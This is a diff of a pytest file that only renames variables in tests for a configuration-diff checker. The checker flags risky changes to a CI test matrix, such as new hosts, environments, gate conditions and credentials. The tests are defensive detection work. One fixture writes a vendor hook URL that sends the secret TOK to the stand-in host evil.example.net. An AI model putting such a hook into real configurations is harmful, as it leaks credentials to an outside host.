@@ -53,8 +53,8 @@ def difference(folder: Path, before: str, after: str) -> tuple[Difference, tuple
     old, new = side(folder / "before.yml"), side(folder / "after.yml")
     assert old is not None
     assert new is not None
-    found = compare(old, new)
-    return found, notices(found, old, new)
+    changes = compare(old, new)
+    return changes, notices(changes, old, new)
 
 
 @pytest.mark.parametrize(
@@ -67,11 +67,11 @@ def difference(folder: Path, before: str, after: str) -> tuple[Difference, tuple
 def test_a_secret_that_moves_stands_first_whatever_moves_it(
     tmp_path: Path, edit: dict[str, str], rows: list[str]
 ) -> None:
-    found, told = difference(tmp_path, matrix(), matrix(**edit))
-    assert [change.after.id for change in found.changed] == rows
-    assert told[0].message == "the secret TOK now goes to evil.example.net in a URL"
-    assert list(told[0].rows) == rows
-    assert all(any("evil.example.net" in field.cause for field in change.fields) for change in found.changed)
+    changes, notes = difference(tmp_path, matrix(), matrix(**edit))
+    assert [change.after.id for change in changes.changed] == rows
+    assert notes[0].message == "the secret TOK now goes to evil.example.net in a URL"
+    assert list(notes[0].rows) == rows
+    assert all(any("evil.example.net" in field.cause for field in change.fields) for change in changes.changed)
 
 
 def test_a_secret_that_moves_in_a_setting_stands_first_too(tmp_path: Path) -> None:
@@ -79,23 +79,23 @@ def test_a_secret_that_moves_in_a_setting_stands_first_too(tmp_path: Path) -> No
         settings = f"vendors: {{ doksi: {{ extra: {{ hook: 'https://{host}/{{{{ env.TOK }}}}' }} }}, certyn:"
         return matrix().replace("vendors: { certyn:", settings)
 
-    found, told = difference(tmp_path, with_hook("a.example.com"), with_hook("evil.example.net"))
-    assert [change.after.id for change in found.changed] == list(URLS)
-    assert [each.message for each in told] == [
+    changes, notes = difference(tmp_path, with_hook("a.example.com"), with_hook("evil.example.net"))
+    assert [change.after.id for change in changes.changed] == list(URLS)
+    assert [note.message for note in notes] == [
         "the secret TOK now goes to evil.example.net in a URL",
         "vendors.doksi.extra.hook leads to evil.example.net now, before to a.example.com",
     ]
 
 
 def test_settings_of_a_vendor_are_fields_of_its_rows(tmp_path: Path) -> None:
-    found, told = difference(tmp_path, matrix(), matrix(environment="production"))
-    assert [change.after.id for change in found.changed] == ["smoke"]
-    assert [each.message for each in told] == ["runs elsewhere: vendors.certyn.environment staging → production"]
+    changes, notes = difference(tmp_path, matrix(), matrix(environment="production"))
+    assert [change.after.id for change in changes.changed] == ["smoke"]
+    assert [note.message for note in notes] == ["runs elsewhere: vendors.certyn.environment staging → production"]
 
 
 def test_a_new_vendor_is_named_with_its_credential(tmp_path: Path) -> None:
-    _, told = difference(tmp_path, matrix(), matrix("  - { id: n, vendor: docketqa, test_ids: [1] }\n"))
-    assert [each.message for each in told] == ["docketqa is new here: apply needs its key in DOCKET_API_KEY"]
+    _, notes = difference(tmp_path, matrix(), matrix("  - { id: n, vendor: docketqa, test_ids: [1] }\n"))
+    assert [note.message for note in notes] == ["docketqa is new here: apply needs its key in DOCKET_API_KEY"]
 
 
 @pytest.mark.parametrize(
@@ -115,35 +115,37 @@ def test_a_new_vendor_is_named_with_its_credential(tmp_path: Path) -> None:
     ],
 )
 def test_what_means_the_same_is_no_change(tmp_path: Path, before: str, after: str) -> None:
-    found, told = difference(tmp_path, before, after)
-    assert (bool(found), told) == (False, ())
+    changes, notes = difference(tmp_path, before, after)
+    assert (bool(changes), notes) == (False, ())
 
 
 @pytest.mark.parametrize("narrower", ["if: \"{{ env.OPEN == 'nope' }}\"", "paths: ['src/a/**']"])
 def test_a_condition_that_changes_may_open_the_gate(tmp_path: Path, narrower: str) -> None:
     entry = "  - {{ id: n, vendor: docketqa, test_ids: [1], {} }}\n"
     wide = "if: \"{{ env.OPEN == 'yes' }}\"" if narrower.startswith("if") else "paths: ['src/**']"
-    _, told = difference(tmp_path, matrix(entry.format(wide)), matrix(entry.format(narrower)))
+    _, notes = difference(tmp_path, matrix(entry.format(wide)), matrix(entry.format(narrower)))
     key = narrower.partition(":")[0]
-    assert [each.message for each in told] == [f"may run less often: `{key}` was changed"]
+    assert [note.message for note in notes] == [f"may run less often: `{key}` was changed"]
 
 
 @pytest.mark.parametrize(
-    ("condition", "told"), [("{{ 1 == 1 }}", []), ("{{ vars.wait == 'x' }}", ["never runs: `if` is false"])]
+    ("condition", "messages"), [("{{ 1 == 1 }}", []), ("{{ vars.wait == 'x' }}", ["never runs: `if` is false"])]
 )
-def test_a_condition_without_a_variable_says_what_it_comes_to(tmp_path: Path, condition: str, told: list[str]) -> None:
+def test_a_condition_without_a_variable_says_what_it_comes_to(
+    tmp_path: Path, condition: str, messages: list[str]
+) -> None:
     entry = '  - {{ id: n, vendor: docketqa, test_ids: [1], if: "{}" }}\n'
     before, after = (matrix(entry.format(text)) for text in ("{{ git.branch == 'main' }}", condition))
-    found, notes = difference(tmp_path, before, after)
-    assert [note.message for note in notes] == told
-    assert found.before.tests - found.after.tests == len(told)
+    changes, notes = difference(tmp_path, before, after)
+    assert [note.message for note in notes] == messages
+    assert changes.before.tests - changes.after.tests == len(messages)
 
 
 URL = "https://a.example.com"
 
 
 @pytest.mark.parametrize(
-    ("before", "after", "told"),
+    ("before", "after", "messages"),
     [
         ("", f"login_url: {URL}/in", []),
         ("", "login_url: https://b.example.com", ["reaches b.example.com now: options.login_url was added"]),
@@ -160,12 +162,12 @@ URL = "https://a.example.com"
         ),
     ],
 )
-def test_each_url_of_a_row_is_a_place(tmp_path: Path, before: str, after: str, told: list[str]) -> None:
+def test_each_url_of_a_row_is_a_place(tmp_path: Path, before: str, after: str, messages: list[str]) -> None:
     entry = (
         f"  - {{ id: n, vendor: docketqa, category_ids: [7], target: {{ web_url: {URL} }}, options: {{ OPTIONS }} }}\n"
     )
     one, two = (matrix(entry.replace("OPTIONS", options)) for options in (before, after))
-    assert [each.message for each in difference(tmp_path, one, two)[1]] == told
+    assert [note.message for note in difference(tmp_path, one, two)[1]] == messages
 
 
 @pytest.mark.parametrize("key", ["environment_label", "project_environment_id"])
@@ -174,8 +176,8 @@ def test_an_environment_in_options_is_a_place(tmp_path: Path, key: str) -> None:
     values = {"environment_label": ("staging", "production")}.get(key, (f"{uuid}1", f"{uuid}2"))
     entry = f"  - {{ id: n, vendor: testerarmy, platform: web, category_ids: [{uuid}1], target: {{ web_url: {URL} }}"
     one, two = (matrix(f"{entry}, options: {{ {key}: {value} }} }}\n") for value in values)
-    told = [each.message for each in difference(tmp_path, one, two)[1]]
-    assert told == [f"runs elsewhere: options.{key} {values[0]} → {values[1]}"]
+    messages = [note.message for note in difference(tmp_path, one, two)[1]]
+    assert messages == [f"runs elsewhere: options.{key} {values[0]} → {values[1]}"]
 
 
 GATES = [
@@ -186,11 +188,11 @@ GATES = [
 ]
 
 
-@pytest.mark.parametrize(("before", "after", "told"), GATES)
-def test_the_gate_that_holds_is_compared(tmp_path: Path, before: str, after: str, told: list[str]) -> None:
+@pytest.mark.parametrize(("before", "after", "messages"), GATES)
+def test_the_gate_that_holds_is_compared(tmp_path: Path, before: str, after: str, messages: list[str]) -> None:
     one, two = (f"gate: {{ {keys} }}\n{matrix()}" for keys in (before, after))
-    found, notes = difference(tmp_path, one, two)
-    assert ([note.message for note in notes], bool(found)) == (told, bool(told))
+    changes, notes = difference(tmp_path, one, two)
+    assert ([note.message for note in notes], bool(changes)) == (messages, bool(messages))
 
 
 EXPRESSION = "{{ vars.q if git.tag else false }}"
@@ -198,7 +200,7 @@ BY_BRANCH = "{{ git.branch != 'main' }}"
 
 
 @pytest.mark.parametrize(
-    ("before", "after", "told"),
+    ("before", "after", "messages"),
     [
         ("", f'allow_failure: "{BY_BRANCH}"', [f"may not gate: allow_failure is {BY_BRANCH}"]),
         ("allow_failure: true", f'allow_failure: "{BY_BRANCH}"', [f"may not gate: allow_failure is {BY_BRANCH}"]),
@@ -210,19 +212,23 @@ BY_BRANCH = "{{ git.branch != 'main' }}"
         (f"quarantine: '{EXPRESSION}'", "", ["quarantine ends: gates again"]),
     ],
 )
-def test_an_expression_that_may_open_the_gate_is_told(tmp_path: Path, before: str, after: str, told: list[str]) -> None:
+def test_an_expression_that_may_open_the_gate_is_told(
+    tmp_path: Path, before: str, after: str, messages: list[str]
+) -> None:
     quarantine = "vars: { q: { reason: r, owner: o, until: 2030-01-01 },"
     one, two = (
         matrix(f"  - {{ id: n, vendor: docketqa, test_ids: [1], {keys} }}\n").replace("vars: {", quarantine)
         for keys in (before, after)
     )
-    _, found = difference(tmp_path, one, two)
-    assert [each.message for each in found] == told
+    _, notes = difference(tmp_path, one, two)
+    assert [note.message for note in notes] == messages
 
 
 def test_a_list_that_is_edited_where_it_stands_is_a_changed_row(tmp_path: Path) -> None:
     entry = "  - { id: n, vendor: docketqa, test_ids: '{{ vars.ids }}' }\n"
     before, after = (matrix(entry).replace("vars: {", f"vars: {{ ids: {ids},") for ids in ("[1]", "[1, 2]"))
-    found, _ = difference(tmp_path, before, after)
-    assert [(each.after.id, [field.path for field in each.fields]) for each in found.changed] == [("n", ["test_ids"])]
-    assert found.after.tests == found.before.tests + 1
+    changes, _ = difference(tmp_path, before, after)
+    assert [(change.after.id, [field.path for field in change.fields]) for change in changes.changed] == [
+        ("n", ["test_ids"])
+    ]
+    assert changes.after.tests == changes.before.tests + 1
